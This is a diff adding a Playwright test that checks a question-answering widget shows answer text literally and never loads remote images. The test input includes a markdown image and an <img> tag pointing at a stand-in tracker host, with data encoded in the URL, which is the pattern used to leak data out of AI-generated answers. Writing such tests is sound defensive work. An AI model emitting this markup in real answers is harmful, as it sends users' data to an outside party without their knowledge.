@@ -196,3 +196,19 @@ def test_each_marker_opens_its_source_on_the_sentence_it_quotes(tab: Tab, fake_a
     answer.locator(".chip").first.click()  # the chip: the citation's own quote
     answer.locator(".chip").first.click()
     assert detail.locator(".snippet mark.ragqa-quote").text_content() == first
+
+
+def test_an_answer_never_loads_a_remote_image(tab: Tab, fake_api: FakeApi) -> None:
+    # The server strips such an image (tests/integration/api/test_output_links.py); the widget
+    # must not load one even if an answer carried it: text only, never markdown or HTML.
+    image = "![status](http://tracker.example/pixel.png?d=brass-key)"
+    sentence = "The zorblax gadget is calibrated with a brass key."
+    requested: list[str] = []
+    tab.page.on("request", lambda request: requested.append(request.url))
+    final = done(f"{sentence} {image} <img src=http://tracker.example/raw.png>", [], [], mode="generative")
+    answer = answer_of(tab, fake_api, ("delta", {"text": f"{sentence} "}), ("delta", {"text": image}),
+                       ("done", final))  # fmt: skip
+    assert image in answer.locator(".text").text_content()  # shown as text
+    tab.page.wait_for_timeout(300)  # time for an image request to go out, were there one
+    assert not [url for url in requested if "tracker.example" in url], requested
+    assert tab.page.evaluate(f"() => {SHADOW}.querySelectorAll('img').length + document.images.length") == 0
